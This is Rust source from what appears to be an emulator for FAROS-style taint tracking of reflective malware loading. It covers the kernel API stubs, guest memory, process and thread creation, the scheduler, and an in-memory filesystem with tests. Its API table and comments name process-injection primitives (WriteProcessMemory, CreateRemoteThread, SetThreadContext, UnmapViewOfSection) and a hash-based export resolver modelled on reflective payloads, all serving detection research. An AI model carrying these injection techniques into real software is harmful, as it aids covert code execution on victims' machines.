            ("ReadFile", Some(Sysno::NtReadFile)),
            ("WriteFile", Some(Sysno::NtWriteFile)),
            ("CloseHandle", Some(Sysno::NtClose)),
            ("DeleteFileA", Some(Sysno::NtDeleteFile)),
            ("Socket", Some(Sysno::NtSocketCreate)),
            ("Connect", Some(Sysno::NtSocketConnect)),
            ("Send", Some(Sysno::NtSocketSend)),
            ("Recv", Some(Sysno::NtSocketRecv)),
            ("CreateProcessA", Some(Sysno::NtCreateUserProcess)),
            ("OpenProcess", Some(Sysno::NtOpenProcess)),
            ("WriteProcessMemory", Some(Sysno::NtWriteVirtualMemory)),
            ("ReadProcessMemory", Some(Sysno::NtReadVirtualMemory)),
            ("CreateRemoteThread", Some(Sysno::NtCreateThreadEx)),
            ("SuspendThread", Some(Sysno::NtSuspendThread)),
            ("ResumeThread", Some(Sysno::NtResumeThread)),
            ("GetThreadContext", Some(Sysno::NtGetContextThread)),
            ("SetThreadContext", Some(Sysno::NtSetContextThread)),
            ("UnmapViewOfSection", Some(Sysno::NtUnmapViewOfSection)),
            ("ExitProcess", Some(Sysno::NtTerminateProcess)),
            ("Sleep", Some(Sysno::NtDelayExecution)),
            ("GetSystemTime", Some(Sysno::NtQuerySystemTime)),
            ("OutputDebugStringA", Some(Sysno::NtDisplayString)),
        ]
    }

    /// The services reachable through the kernel module's API stubs. A
    /// stub is `mov eax, sysno; int; ret` — it forwards the *caller's*
    /// argument registers untouched — so any process that can call into
    /// unknown code can exercise any capability these services grant.
    /// The static capability model uses this as its ambient set.
    pub fn kernel_stub_services() -> Vec<Sysno> {
        Self::kernel_api().into_iter().filter_map(|(_, s)| s).collect()
    }

    fn build_kernel_module(&mut self) {
        let api = Self::kernel_api();
        let mut asm = Asm::new(KERNEL_STUBS_VA);
        for (name, sysno) in &api {
            asm.label(name);
            match sysno {
                Some(s) => {
                    asm.mov_ri(Reg::Eax, *s as u32);
                    asm.int_syscall();
                    asm.ret();
                }
                None => {
                    // GetProcAddress(hash in EBX) -> EAX = function pointer.
                    // Walks the kernel export table exactly like a reflective
                    // payload would — but as *clean* boot code, so benign
                    // resolution through this routine never trips FAROS.
                    asm.mov_ri(Reg::Esi, KERNEL_EXPORT_TABLE_VA);
                    asm.ld4(Reg::Ecx, MemOp::reg(Reg::Esi)); // count
                    asm.add_ri(Reg::Esi, 4);
                    asm.label("gpa_loop");
                    asm.cmp_ri(Reg::Ecx, 0);
                    asm.jz("gpa_fail");
                    asm.ld4(Reg::Eax, MemOp::base_disp(Reg::Esi, 24)); // hash
                    asm.cmp_rr(Reg::Eax, Reg::Ebx);
                    asm.jz("gpa_hit");
                    asm.add_ri(Reg::Esi, 32);
                    asm.sub_ri(Reg::Ecx, 1);
                    asm.jmp("gpa_loop");
                    asm.label("gpa_hit");
                    asm.ld4(Reg::Eax, MemOp::base_disp(Reg::Esi, 28)); // fn ptr
                    asm.ret();
                    asm.label("gpa_fail");
                    asm.mov_ri(Reg::Eax, 0);
                    asm.ret();
                }
            }
        }
        let (code, labels) = asm
            .assemble_with_labels()
            .expect("kernel stub assembly is static and must assemble");

        let exports: Vec<Export> = api
            .iter()
            .map(|(name, _)| Export { name: (*name).to_string(), va: labels[*name] })
            .collect();
        let image = FdlImage {
            entry: 0,
            export_table_va: KERNEL_EXPORT_TABLE_VA,
            sections: Vec::new(),
            exports: exports.clone(),
        };
        let table = image.export_table_bytes();

        // Materialize stub code and export table into kernel physical pages.
        self.install_kernel_bytes(KERNEL_STUBS_VA, &code, Perms::RX);
        let table_ranges = self.install_kernel_bytes(KERNEL_EXPORT_TABLE_VA, &table, Perms::R);
        self.kernel_export_ranges = table_ranges;

        self.kernel_modules.push(ModuleInfo {
            name: "ntdll.fdl".to_string(),
            base: KERNEL_STUBS_VA,
            entry: 0,
            export_table_va: KERNEL_EXPORT_TABLE_VA,
            exports,
        });
    }

    fn install_kernel_bytes(&mut self, va: u32, bytes: &[u8], perms: Perms) -> Vec<ByteRange> {
        let pages = bytes.len().div_ceil(PAGE_SIZE as usize).max(1);
        let mut ranges = Vec::with_capacity(pages);
        for page in 0..pages {
            let pfn = self.mem.alloc_frame().expect("boot allocation");
            self.kernel_pages.push((va + page as u32 * PAGE_SIZE, pfn, perms));
            let start = page * PAGE_SIZE as usize;
            let end = (start + PAGE_SIZE as usize).min(bytes.len());
            if start < bytes.len() {
                self.mem
                    .write(pfn * PAGE_SIZE, &bytes[start..end])
                    .expect("boot write");
                ranges.push(ByteRange { phys: pfn * PAGE_SIZE, len: (end - start) as u32 });
            }
        }
        ranges
    }

    fn emit_boot<O: Observer>(&mut self, obs: &mut O) {
        if self.booted {
            return;
        }
        self.booted = true;
        for module in &self.kernel_modules {
            obs.module_loaded(None, module, &self.kernel_export_ranges);
        }
    }

    // ------------------------------------------------------------------
    // Guest memory services
    // ------------------------------------------------------------------

    /// Translates `len` bytes at `va` in `pid`'s address space, coalescing
    /// into contiguous physical runs.
    pub fn phys_runs(
        &self,
        pid: Pid,
        va: u32,
        len: u32,
        access: Access,
    ) -> Result<Vec<ByteRange>, MachineError> {
        let proc = self.procs.get(&pid).ok_or(MachineError::NoSuchProcess(pid))?;
        let mut runs: Vec<ByteRange> = Vec::new();
        for i in 0..len {
            let phys = proc
                .aspace
                .translate(va.wrapping_add(i), access)
                .map_err(MachineError::BadAddress)?;
            match runs.last_mut() {
                Some(last) if last.phys + last.len == phys => last.len += 1,
                _ => runs.push(ByteRange { phys, len: 1 }),
            }
        }
        Ok(runs)
    }

    /// Reads guest bytes from `pid`'s address space.
    pub fn read_guest(&self, pid: Pid, va: u32, len: u32) -> Result<Vec<u8>, MachineError> {
        let runs = self.phys_runs(pid, va, len, Access::Read)?;
        let mut out = Vec::with_capacity(len as usize);
        for r in runs {
            let slice = self
                .mem
                .slice(r.phys, r.len as usize)
                .expect("translated range in bounds");
            out.extend_from_slice(slice);
        }
        Ok(out)
    }

    /// Reads a guest string (`ptr`, `len` pair as used by path arguments).
    pub fn read_guest_str(&self, pid: Pid, va: u32, len: u32) -> Result<String, MachineError> {
        let bytes = self.read_guest(pid, va, len.min(4096))?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }

    /// Writes host bytes into `pid`'s address space, returning the physical
    /// runs written (callers emit the appropriate taint event).
    pub fn write_guest(
        &mut self,
        pid: Pid,
        va: u32,
        bytes: &[u8],
    ) -> Result<Vec<ByteRange>, MachineError> {
        let runs = self.phys_runs(pid, va, bytes.len() as u32, Access::Write)?;
        let mut off = 0usize;
        for r in &runs {
            self.mem
                .write(r.phys, &bytes[off..off + r.len as usize])
                .expect("translated range in bounds");
            self.tcache.note_write(r.phys, r.len);
            off += r.len as usize;
        }
        Ok(runs)
    }

    /// Kernel-mode write: stores host bytes into `pid`'s address space
    /// ignoring page protections (the loader writing read-only image pages,
    /// export tables, mapped views). Returns the physical runs written.
    pub fn write_guest_kernel(
        &mut self,
        pid: Pid,
        va: u32,
        bytes: &[u8],
    ) -> Result<Vec<ByteRange>, MachineError> {
        let runs = {
            let proc = self.procs.get(&pid).ok_or(MachineError::NoSuchProcess(pid))?;
            let mut runs: Vec<ByteRange> = Vec::new();
            for i in 0..bytes.len() as u32 {
                let vaddr = va.wrapping_add(i);
                let entry = proc
                    .aspace
                    .entry(vaddr)
                    .ok_or(MachineError::BadAddress(Fault::NotMapped { vaddr }))?;
                let phys = entry.pfn * PAGE_SIZE + (vaddr & (PAGE_SIZE - 1));
                match runs.last_mut() {
                    Some(last) if last.phys + last.len == phys => last.len += 1,
                    _ => runs.push(ByteRange { phys, len: 1 }),
                }
            }
            runs
        };
        let mut off = 0usize;
        for r in &runs {
            self.mem
                .write(r.phys, &bytes[off..off + r.len as usize])
                .expect("mapped range in bounds");
            self.tcache.note_write(r.phys, r.len);
            off += r.len as usize;
        }
        Ok(runs)
    }

    /// Kernel-mediated guest-to-guest copy (the `NtWriteVirtualMemory` /
    /// `NtReadVirtualMemory` data path). Copies the bytes and reports the
    /// physical pairing so shadow state can follow.
    pub fn guest_copy<O: Observer>(
        &mut self,
        src_pid: Pid,
        src_va: u32,
        dst_pid: Pid,
        dst_va: u32,
        len: u32,
        obs: &mut O,
    ) -> Result<(), MachineError> {
        let src_runs = self.phys_runs(src_pid, src_va, len, Access::Read)?;
        let dst_runs = self.phys_runs(dst_pid, dst_va, len, Access::Write)?;
        // Flatten into per-byte pairs, re-coalescing into CopyRuns.
        let mut pairs: Vec<CopyRun> = Vec::new();
        let mut src_iter = src_runs.iter().flat_map(|r| (0..r.len).map(move |i| r.phys + i));
        let mut dst_iter = dst_runs.iter().flat_map(|r| (0..r.len).map(move |i| r.phys + i));
        let mut buf = vec![0u8; 1];
        while let (Some(s), Some(d)) = (src_iter.next(), dst_iter.next()) {
            self.mem.read(s, &mut buf).expect("translated");
            self.mem.write(d, &buf).expect("translated");
            match pairs.last_mut() {
                Some(last)
                    if last.src_phys + last.len == s && last.dst_phys + last.len == d =>
                {
                    last.len += 1;
                }
                _ => pairs.push(CopyRun { dst_phys: d, src_phys: s, len: 1 }),
            }
        }
        for pair in &pairs {
            self.tcache.note_write(pair.dst_phys, pair.len);
        }
        obs.guest_copy(src_pid, dst_pid, &pairs);
        Ok(())
    }

    /// Maps `size` bytes of fresh zeroed memory at `va` in `pid`'s address
    /// space and registers a VAD region. Fires `kernel_write` so stale
    /// shadow on recycled frames is cleared.
    pub fn map_fresh<O: Observer>(
        &mut self,
        pid: Pid,
        va: u32,
        size: u32,
        perms: Perms,
        kind: crate::process::RegionKind,
        obs: &mut O,
    ) -> Result<(), MachineError> {
        debug_assert_eq!(va % PAGE_SIZE, 0);
        let pages = size.div_ceil(PAGE_SIZE).max(1);
        {
            let proc = self.procs.get(&pid).ok_or(MachineError::NoSuchProcess(pid))?;
            for page in 0..pages {
                if proc.aspace.entry(va + page * PAGE_SIZE).is_some() {
                    return Err(MachineError::AddressConflict(va + page * PAGE_SIZE));
                }
            }
        }
        let mut ranges = Vec::with_capacity(pages as usize);
        for page in 0..pages {
            let pfn = self.mem.alloc_frame().map_err(|_| MachineError::OutOfMemory)?;
            let proc = self.procs.get_mut(&pid).expect("checked above");
            proc.aspace.map(va + page * PAGE_SIZE, pfn, perms);
            ranges.push(ByteRange { phys: pfn * PAGE_SIZE, len: PAGE_SIZE });
        }
        let proc = self.procs.get_mut(&pid).expect("checked above");
        proc.add_region(VadRegion { base: va, size: pages * PAGE_SIZE, perms, kind });
        // New mappings change what a cached virtual address decodes to.
        self.tcache.invalidate_all();
        obs.kernel_write(pid, &ranges);
        Ok(())
    }

    /// Unmaps the region based at `va` in `pid` (frames are *not* recycled
    /// immediately — their stale contents stay visible to forensic
    /// snapshots, as on real hardware).
    pub fn unmap_region(&mut self, pid: Pid, va: u32) -> Result<VadRegion, MachineError> {
        let proc = self.procs.get_mut(&pid).ok_or(MachineError::NoSuchProcess(pid))?;
        let region = proc
            .remove_region(va)
            .ok_or(MachineError::AddressConflict(va))?;
        let pages = region.size / PAGE_SIZE;
        for page in 0..pages {
            proc.aspace.unmap(region.base + page * PAGE_SIZE);
        }
        // Cached blocks for the torn-down mapping must not outlive it
        // (module unload / UnmapViewOfSection).
        self.tcache.invalidate_all();
        Ok(region)
    }

    // ------------------------------------------------------------------
    // Processes and threads
    // ------------------------------------------------------------------

    /// Installs an FDL image as a file in the guest filesystem.
    pub fn install_program(&mut self, path: &str, image: &FdlImage) -> Result<(), MachineError> {
        self.fs
            .create(path, image.to_bytes())
            .map_err(|e| MachineError::BadImage(e.to_string()))
    }

    /// Spawns a process from an FDL file in the guest filesystem.
    ///
    /// The image sections are copied into the new address space and reported
    /// as a `file_read` (so the DIFT layer applies file tags), the export
    /// table is materialized, and `module_loaded` fires.
    ///
    /// # Errors
    ///
    /// Fails if the file is missing, not a valid FDL, or memory is
    /// exhausted.
    pub fn spawn_process<O: Observer>(
        &mut self,
        path: &str,
        suspended: bool,
        parent: Option<Pid>,
        obs: &mut O,
    ) -> Result<Pid, MachineError> {
        self.emit_boot(obs);
        let pid = Pid(self.next_pid);
        self.next_pid += 1;
        let asid = Asid(0x1000 + pid.0 * 0x1000);
        let mut aspace = AddressSpace::new(asid);
        for &(va, pfn, perms) in &self.kernel_pages {
            aspace.map(va, pfn, perms);
        }
        let name = path.rsplit('/').next().unwrap_or(path).to_string();
        let proc = Process::new(pid, &name, parent, aspace);
        self.procs.insert(pid, proc);
        obs.process_created(&self.procs[&pid].info());

        let module = match self.load_image_into(pid, path, obs) {
            Ok(m) => m,
            Err(e) => {
                // Roll back the half-created process.
                self.procs.remove(&pid);
                return Err(e);
            }
        };

        // Stack + main thread.
        self.map_fresh(
            pid,
            STACK_TOP - STACK_SIZE,
            STACK_SIZE,
            Perms::RW,
            crate::process::RegionKind::Stack,
            obs,
        )?;
        let tid = self.create_thread_raw(pid, module.entry, STACK_TOP, suspended);
        obs.thread_created(pid, tid);
        Ok(pid)
    }

    /// Loads an FDL image file into an existing process: maps its sections
    /// (reported as file reads, so the DIFT layer applies file tags),
    /// materializes its export table, registers the module, and fires
    /// `module_loaded`. This is both the main-image half of
    /// [`Machine::spawn_process`] and the `LdrLoadDll` service (normal —
    /// i.e. *registered* — library loading, the counterpart the reflective
    /// technique bypasses).
    ///
    /// # Errors
    ///
    /// Fails if the file is missing, is not a valid FDL, collides with an
    /// existing mapping, or memory is exhausted.
    pub fn load_image_into<O: Observer>(
        &mut self,
        pid: Pid,
        path: &str,
        obs: &mut O,
    ) -> Result<ModuleInfo, MachineError> {
        let bytes = self
            .fs
            .read(path, 0, usize::MAX / 2)
            .map_err(|_| MachineError::NoSuchFile(path.to_string()))?;
        let version = self.fs.version(path).unwrap_or(1);
        let image = FdlImage::parse(&bytes).map_err(|e| MachineError::BadImage(e.to_string()))?;
        let name = path.rsplit('/').next().unwrap_or(path).to_string();

        // Map sections and copy image bytes; report as file reads.
        let mut base = u32::MAX;
        for section in &image.sections {
            base = base.min(section.va);
            self.map_fresh(
                pid,
                section.va,
                section.data.len() as u32,
                section.perms,
                crate::process::RegionKind::Image { module: name.clone() },
                obs,
            )?;
            // Section pages must be writable during load regardless of their
            // final protection; write in kernel mode.
            let runs = self.write_guest_kernel(pid, section.va, &section.data)?;
            obs.file_read(pid, path, version, &runs);
        }

        // Materialize the module export table (read-only image memory).
        let mut table_runs: Vec<ByteRange> = Vec::new();
        if !image.exports.is_empty() {
            let table = image.export_table_bytes();
            self.map_fresh(
                pid,
                image.export_table_va,
                table.len() as u32,
                Perms::R,
                crate::process::RegionKind::Image { module: name.clone() },
                obs,
            )?;
            table_runs = self.write_guest_kernel(pid, image.export_table_va, &table)?;
            obs.kernel_write(pid, &table_runs);
        }

        let module = ModuleInfo {
            name,
            base: if base == u32::MAX { image.entry } else { base },
            entry: image.entry,
            export_table_va: image.export_table_va,
            exports: image.exports.clone(),
        };
        self.procs
            .get_mut(&pid)
            .ok_or(MachineError::NoSuchProcess(pid))?
            .modules
            .push(module.clone());
        obs.module_loaded(Some(pid), &module, &table_runs);
        Ok(module)
    }

    /// Creates a thread in `pid` with entry `start` and a caller-chosen
    /// stack pointer (no stack is allocated here).
    pub(crate) fn create_thread_raw(
        &mut self,
        pid: Pid,
        start: u32,
        esp: u32,
        suspended: bool,
    ) -> Tid {
        let tid = Tid(self.next_tid);
        self.next_tid += 1;
        let mut ctx = CpuContext { eip: start, ..CpuContext::default() };
        ctx.regs[Reg::Esp.index()] = esp;
        let mut thread = Thread::new(tid, ctx);
        if suspended {
            thread.state = ThreadState::Suspended(1);
        }
        let proc = self.procs.get_mut(&pid).expect("caller validated pid");
        proc.threads.insert(tid, thread);
        if !suspended {
            self.run_queue.push_back((pid, tid));
        }
        tid
    }

    /// Creates a thread with a fresh stack in the target process — the
    /// `NtCreateThreadEx` path (remote thread creation).
    pub fn create_thread_with_stack<O: Observer>(
        &mut self,
        pid: Pid,
        start: u32,
        arg: u32,
        suspended: bool,
        obs: &mut O,
    ) -> Result<Tid, MachineError> {
        // Pick a stack area below the main stack, one slot per thread.
        let slot = self.next_tid;
        let stack_top = STACK_TOP - STACK_SIZE * 2 * slot;
        self.map_fresh(
            pid,
            stack_top - STACK_SIZE,
            STACK_SIZE,
            Perms::RW,
            crate::process::RegionKind::Stack,
            obs,
        )?;
        let tid = self.create_thread_raw(pid, start, stack_top, suspended);
        // Pass the argument in EBX.
        if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid)) {
            t.ctx.regs[Reg::Ebx.index()] = arg;
        }
        obs.thread_created(pid, tid);
        Ok(tid)
    }

    pub(crate) fn wake_thread(&mut self, pid: Pid, tid: Tid) {
        if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid)) {
            if matches!(t.state, ThreadState::Blocked(_)) || t.state == ThreadState::Ready {
                t.state = ThreadState::Ready;
                if !self.run_queue.contains(&(pid, tid)) {
                    self.run_queue.push_back((pid, tid));
                }
            }
        }
    }

    /// Marks a process (and all its threads) exited.
    pub(crate) fn terminate_process<O: Observer>(
        &mut self,
        pid: Pid,
        code: u32,
        obs: &mut O,
    ) {
        let Some(proc) = self.procs.get_mut(&pid) else {
            return;
        };
        if proc.exit_code.is_some() {
            return;
        }
        proc.exit_code = Some(code);
        let name = proc.name.clone();
        let tids: Vec<Tid> = proc.threads.keys().copied().collect();
        for tid in tids {
            let t = proc.threads.get_mut(&tid).expect("listed");
            if t.state != ThreadState::Exited {
                t.state = ThreadState::Exited;
                obs.thread_exited(pid, tid);
            }
        }
        self.run_queue.retain(|&(p, _)| p != pid);
        obs.process_exited(pid, &name);
    }

    // ------------------------------------------------------------------
    // Scheduler
    // ------------------------------------------------------------------

    fn pump_and_wake(&mut self) {
        let tick = self.ticks();
        self.net.pump(tick);
        let mut to_wake: Vec<(Pid, Tid)> = Vec::new();
        for proc in self.procs.values() {
            for t in proc.threads.values() {
                if let ThreadState::Blocked(reason) = t.state {
                    let ready = match reason {
                        BlockReason::NetRecv { conn } => self.net.readable(conn),
                        BlockReason::Sleep { until } => tick >= until,
                        BlockReason::NetAccept { port } => self.net.inbound_ready(port, tick),
                    };
                    if ready {
                        to_wake.push((proc.pid, t.tid));
                    }
                }
            }
        }
        for (pid, tid) in to_wake {
            self.wake_thread(pid, tid);
        }
    }

    fn pick_next(&mut self) -> Option<(Pid, Tid)> {
        for _ in 0..self.run_queue.len() {
            let (pid, tid) = self.run_queue.pop_front()?;
            let ready = self
                .procs
                .get(&pid)
                .and_then(|p| p.threads.get(&tid))
                .is_some_and(|t| t.is_ready());
            if ready {
                return Some((pid, tid));
            }
        }
        None
    }

    fn any_wakeable(&self) -> bool {
        self.procs.values().filter(|p| p.is_alive()).any(|p| {
            p.threads.values().any(|t| {
                matches!(
                    t.state,
                    ThreadState::Ready
                        | ThreadState::Blocked(BlockReason::Sleep { .. })
                        | ThreadState::Blocked(BlockReason::NetRecv { .. })
                        | ThreadState::Blocked(BlockReason::NetAccept { .. })
                )
            })
        })
    }

    fn all_exited(&self) -> bool {
        self.procs.values().all(|p| !p.is_alive() || !p.has_live_threads())
    }

    /// Runs the machine for at most `budget` instructions, reporting events
    /// to `obs`.
    pub fn run<O: Observer>(&mut self, budget: u64, obs: &mut O) -> RunExit {
        self.emit_boot(obs);
        let start_retired = self.cpu.retired();
        let mut idle_rounds = 0u32;
        loop {
            if self.cpu.retired() - start_retired >= budget {
                return RunExit::Budget;
            }
            self.pump_and_wake();
            let Some((pid, tid)) = self.pick_next() else {
                if self.all_exited() {
                    return RunExit::AllExited;
                }
                if !self.any_wakeable() {
                    return RunExit::Deadlocked;
                }
                idle_rounds += 1;
                self.idle_boost += 64;
                obs.tick(self.ticks());
                if idle_rounds > 100_000 {
                    return RunExit::Deadlocked;
                }
                continue;
            };
            idle_rounds = 0;

            obs.tick(self.ticks());
            obs.context_switch(self.current, (pid, tid));
            self.current = Some((pid, tid));

            // Load thread context.
            {
                let proc = self.procs.get(&pid).expect("picked");
                let thread = proc.threads.get(&tid).expect("picked");
                *self.cpu.context_mut() = thread.ctx;
                self.cpu.set_asid(proc.cr3());
            }

            // Retry a parked syscall first.
            let pending = self
                .procs
                .get(&pid)
                .and_then(|p| p.threads.get(&tid))
                .and_then(|t| t.pending);
            if let Some(PendingSyscall { sysno, args }) = pending {
                let done = self.service_syscall(pid, tid, sysno, args, true, obs);
                self.store_context(pid, tid);
                if !done {
                    continue; // still blocked
                }
                if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid))
                {
                    t.pending = None;
                }
            }

            // Run a quantum.
            let mut steps = 0u32;
            let mut reschedule = true;
            while steps < self.config.timeslice {
                let (executed, event) = {
                    let proc = self.procs.get(&pid).expect("picked");
                    match self.exec {
                        ExecMode::Interpret => {
                            (1, self.cpu.step(&mut self.mem, &proc.aspace, obs))
                        }
                        ExecMode::Cached => self.cpu.run_cached(
                            &mut self.mem,
                            &proc.aspace,
                            &mut self.tcache,
                            obs,
                            self.config.timeslice - steps,
                        ),
                    }
                };
                // A terminal event can arrive with zero instructions retired
                // (e.g. a fetch fault on the first instruction of a block);
                // count one step so the quantum always makes progress.
                steps += executed.max(1);
                match event {
                    StepEvent::Normal | StepEvent::Branch => {}
                    StepEvent::Syscall { .. } => {
                        let sysno_raw = self.cpu.reg(Reg::Eax);
                        let args = [
                            self.cpu.reg(Reg::Ebx),
                            self.cpu.reg(Reg::Ecx),
                            self.cpu.reg(Reg::Edx),
                            self.cpu.reg(Reg::Esi),
                            self.cpu.reg(Reg::Edi),
                        ];
                        match Sysno::from_u32(sysno_raw) {
                            Some(sysno) => {
                                let done =
                                    self.service_syscall(pid, tid, sysno, args, false, obs);
                                if !done {
                                    // Parked: remember the request and block.
                                    if let Some(t) = self
                                        .procs
                                        .get_mut(&pid)
                                        .and_then(|p| p.threads.get_mut(&tid))
                                    {
                                        t.pending = Some(PendingSyscall { sysno, args });
                                    }
                                    break;
                                }
                                // The service may have killed the process.
                                if self.procs.get(&pid).is_none_or(|p| !p.is_alive()) {
                                    reschedule = false;
                                    break;
                                }
                                // It may also have suspended this thread.
                                let state = self
                                    .procs
                                    .get(&pid)
                                    .and_then(|p| p.threads.get(&tid))
                                    .map(|t| t.state);
                                if !matches!(state, Some(ThreadState::Ready)) {
                                    break;
                                }
                            }
                            None => {
                                self.cpu
                                    .set_reg(Reg::Eax, crate::nt::NtStatus::NotImplemented as u32);
                            }
                        }
                    }
                    StepEvent::Halt => {
                        self.store_context(pid, tid);
                        if let Some(t) =
                            self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid))
                        {
                            t.state = ThreadState::Exited;
                        }
                        obs.thread_exited(pid, tid);
                        if self.procs.get(&pid).is_some_and(|p| !p.has_live_threads()) {
                            self.terminate_process(pid, 0, obs);
                        }
                        reschedule = false;
                        break;
                    }
                    StepEvent::Fault(_) | StepEvent::Illegal { .. } => {
                        // Unhandled fault: kill the process (access violation).
                        self.store_context(pid, tid);
                        self.terminate_process(pid, 0xC000_0005, obs);
                        reschedule = false;
                        break;
                    }
                }
            }
            self.store_context(pid, tid);
            if reschedule {
                let still_ready = self
                    .procs
                    .get(&pid)
                    .and_then(|p| p.threads.get(&tid))
                    .is_some_and(|t| t.is_ready());
                if still_ready {
                    self.run_queue.push_back((pid, tid));
                }
            }
        }
    }

    fn store_context(&mut self, pid: Pid, tid: Tid) {
        let ctx = *self.cpu.context();
        if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid)) {
            t.ctx = ctx;
        }
    }

    pub(crate) fn push_console(&mut self, pid: Pid, text: String) {
        self.console.push((pid, text));
    }
}
