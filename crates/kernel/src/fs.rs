//! The in-memory guest filesystem.
//!
//! Files carry an *access version* counter incremented on every write-open
//! and write, matching the payload of FAROS file tags ("a version that
//! indicates how many times a file has been accessed", Fig. 5). The file
//! *contents* live host-side; provenance transits files through file tags
//! attached to the guest buffers at the 26 hooked syscalls, exactly as in
//! the paper (see DESIGN.md).

use std::collections::BTreeMap;
use std::fmt;

/// Error type for filesystem operations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FsError {
    /// The path does not exist.
    NotFound(String),
    /// The path already exists (exclusive create).
    AlreadyExists(String),
}

impl fmt::Display for FsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FsError::NotFound(p) => write!(f, "file not found: {p}"),
            FsError::AlreadyExists(p) => write!(f, "file already exists: {p}"),
        }
    }
}

impl std::error::Error for FsError {}

/// A file node.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FileNode {
    /// Contents.
    pub data: Vec<u8>,
    /// Access version (increments on writes).
    pub version: u32,
}

/// Metadata returned by `NtQueryInformationFile`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FileInfo {
    /// File length in bytes.
    pub size: u32,
    /// Current access version.
    pub version: u32,
}

/// The in-memory filesystem.
///
/// # Examples
///
/// ```
/// use faros_kernel::fs::FileSystem;
///
/// let mut fs = FileSystem::new();
/// fs.create("C:/hello.txt", b"hi".to_vec()).unwrap();
/// assert_eq!(fs.read("C:/hello.txt", 0, 10).unwrap(), b"hi");
/// ```
#[derive(Debug, Clone, Default)]
pub struct FileSystem {
    files: BTreeMap<String, FileNode>,
    deleted: Vec<String>,
}

impl FileSystem {
    /// Creates an empty filesystem.
    pub fn new() -> FileSystem {
        FileSystem::default()
    }

    /// Creates a file with initial contents.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::AlreadyExists`] if the path is taken.
    pub fn create(&mut self, path: &str, data: Vec<u8>) -> Result<(), FsError> {
        if self.files.contains_key(path) {
            return Err(FsError::AlreadyExists(path.to_string()));
        }
        self.files.insert(path.to_string(), FileNode { data, version: 1 });
        Ok(())
    }

    /// Returns `true` if the path exists.
    pub fn exists(&self, path: &str) -> bool {
        self.files.contains_key(path)
    }

    /// Reads up to `len` bytes at `offset`.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] for a missing path.
    pub fn read(&self, path: &str, offset: u32, len: usize) -> Result<Vec<u8>, FsError> {
        let node = self.files.get(path).ok_or_else(|| FsError::NotFound(path.to_string()))?;
        let start = (offset as usize).min(node.data.len());
        let end = start.saturating_add(len).min(node.data.len());
        Ok(node.data[start..end].to_vec())
    }

    /// Writes bytes at `offset` (extending the file if needed) and bumps the
    /// version. Returns the new version.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] for a missing path.
    pub fn write(&mut self, path: &str, offset: u32, bytes: &[u8]) -> Result<u32, FsError> {
        let node = self
            .files
            .get_mut(path)
            .ok_or_else(|| FsError::NotFound(path.to_string()))?;
        let end = offset as usize + bytes.len();
        if node.data.len() < end {
            node.data.resize(end, 0);
        }
        node.data[offset as usize..end].copy_from_slice(bytes);
        node.version += 1;
        Ok(node.version)
    }

    /// Deletes a file. The deletion is remembered — sandbox analyzers list
    /// deleted artifacts (in-memory loaders commonly delete themselves,
    /// paper §II).
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] for a missing path.
    pub fn delete(&mut self, path: &str) -> Result<(), FsError> {
        self.files
            .remove(path)
            .ok_or_else(|| FsError::NotFound(path.to_string()))?;
        self.deleted.push(path.to_string());
        Ok(())
    }

    /// File metadata.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] for a missing path.
    pub fn info(&self, path: &str) -> Result<FileInfo, FsError> {
        let node = self.files.get(path).ok_or_else(|| FsError::NotFound(path.to_string()))?;
        Ok(FileInfo { size: node.data.len() as u32, version: node.version })
    }

    /// Current version of a file (1 if never written since creation).
    pub fn version(&self, path: &str) -> Option<u32> {
        self.files.get(path).map(|n| n.version)
    }

    /// Lists paths with the given prefix, in order.
    pub fn list(&self, prefix: &str) -> Vec<String> {
        self.files
            .keys()
            .filter(|p| p.starts_with(prefix))
            .cloned()
            .collect()
    }

    /// Paths deleted during the run, in deletion order.
    pub fn deleted_paths(&self) -> &[String] {
        &self.deleted
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn create_read_write_cycle() {
        let mut fs = FileSystem::new();
        fs.create("a", b"hello".to_vec()).unwrap();
        assert_eq!(fs.read("a", 1, 3).unwrap(), b"ell");
        let v = fs.write("a", 5, b" world").unwrap();
        assert_eq!(v, 2);
        assert_eq!(fs.read("a", 0, 64).unwrap(), b"hello world");
        assert_eq!(fs.info("a").unwrap(), FileInfo { size: 11, version: 2 });
    }

    #[test]
    fn exclusive_create() {
        let mut fs = FileSystem::new();
        fs.create("a", vec![]).unwrap();
        assert_eq!(fs.create("a", vec![]), Err(FsError::AlreadyExists("a".into())));
    }

    #[test]
    fn read_past_eof_truncates() {
        let mut fs = FileSystem::new();
        fs.create("a", b"abc".to_vec()).unwrap();
        assert_eq!(fs.read("a", 2, 10).unwrap(), b"c");
        assert_eq!(fs.read("a", 99, 10).unwrap(), b"");
    }

    #[test]
    fn sparse_write_zero_fills() {
        let mut fs = FileSystem::new();
        fs.create("a", vec![]).unwrap();
        fs.write("a", 4, b"x").unwrap();
        assert_eq!(fs.read("a", 0, 5).unwrap(), vec![0, 0, 0, 0, b'x']);
    }

    #[test]
    fn delete_is_remembered() {
        let mut fs = FileSystem::new();
        fs.create("loader.exe", vec![1]).unwrap();
        fs.delete("loader.exe").unwrap();
        assert!(!fs.exists("loader.exe"));
        assert_eq!(fs.deleted_paths(), &["loader.exe".to_string()]);
        assert_eq!(fs.delete("loader.exe"), Err(FsError::NotFound("loader.exe".into())));
    }

    #[test]
    fn versions_track_write_count() {
        let mut fs = FileSystem::new();
        fs.create("a", vec![]).unwrap();
        assert_eq!(fs.version("a"), Some(1));
        fs.write("a", 0, b"1").unwrap();
        fs.write("a", 0, b"2").unwrap();
